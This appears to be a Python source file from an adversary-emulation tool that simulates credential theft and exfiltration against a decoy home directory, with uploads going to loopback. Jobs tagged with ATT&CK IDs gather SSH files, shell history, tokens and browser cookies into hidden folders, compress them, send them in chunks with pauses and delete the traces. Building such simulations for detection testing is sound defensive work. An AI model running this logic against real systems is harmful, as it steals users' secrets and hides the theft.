# Credential access and collection: made-up secrets of the decoy home are read, gathered and sent to loopback.

def stage(paths, place):
    """Copies files into a hidden folder under new names; the copies."""
    copies = []
    for path in paths:
        copy = f"{place}/{len(copies):03}-{noise(4)}"
        write(copy, read(path), 0o600)
        copies.append(copy)
    return copies


@job
def harvest_credentials():
    """T1552.001, T1552.004: keys, tokens and histories are searched and gathered."""
    groundwork()
    place = folder(home(f".cache/.{noise(6)}"))
    found = secrets() + [home(".bash_history"), home(".ssh/config"), home(".ssh/known_hosts")]
    R.shuffle(found)
    stage(found, place)
    for path in pick(files("Documents", "Projects", "Desktop"), 15, 45):
        text = read(path, 4096)
        if b"password" in text or b"token" in text or b"key" in text:
            append(f"{place}/found", path.encode() + b"\n")


@job
def harvest_browser():
    """T1555.003: browser logins and cookies are copied and packed."""
    groundwork()
    place = folder(home(f".cache/.{noise(6)}"))
    for path in browser_files():
        copies = stage([path], place)
        write(copies[0] + ".z", zlib.compress(read(copies[0])))
        remove(copies[0])
    for path in pick(files(".config", hidden=True), 10, 30):
        read(path, 8192)


@job
def harvest_send():
    """T1552, T1041: secrets go over the wire as they are found."""
    groundwork()
    found = secrets() + browser_files() + [home(".bash_history")]
    R.shuffle(found)
    for path in found:
        upload(stream(b"wire", read(path)), os.path.basename(path).replace(" ", "_"))
        if R.random() < 0.2:
            pause(1, 10)


@job
def stage_send():
    """T1560.002, T1041: documents and secrets in one archive, sent in pieces, traces removed."""
    groundwork()
    place = folder(home(f".cache/.{noise(6)}"))
    paths = pick(files(*some_folders()), 30, 70) + pick(secrets(), 2, 6)
    copies = stage(paths, place)
    packed = zlib.compress(b"".join(read(copy) for copy in copies))
    write(f"{place}/all.z", packed, 0o600)
    step = R.choice((8192, 20_000, 50_000))
    for start in range(0, len(packed), step):
        upload(packed[start:start + step], f"part{start // step}")
    for copy in copies:
        remove(copy)
    remove(f"{place}/all.z")


@job
def collect_documents():
    """T1119, T1074.001: documents are gathered in a hidden folder."""
    groundwork()
    place = folder(home(f".local/share/.{noise(6)}"))
    kinds = R.choice((("pdf", "docx", "xlsx", "odt"), ("txt", "md", "csv", "pdf"), None))
    paths = pick(files("Documents", "Desktop", "Downloads", "Projects", kinds=kinds), 40, 80)
    paths += pick(secrets() + browser_files(), 2, 7)
    for copy in stage(paths, place):
        if R.random() < 0.5:
            update(copy, lambda data: stream(b"box", data))


@job
def exfil_slow():
    """T1020, T1030: documents leave in small pieces with rests in between."""
    groundwork()
    paths = pick(files("Documents", "Desktop", "Pictures"), 10, 20) + pick(secrets(), 1, 4)
    for path in paths:
        data = stream(b"wire", read(path))
        for start in range(0, min(len(data), 8192), 2048):
            upload(data[start:start + 2048], noise(8))
        pause(1, 12)
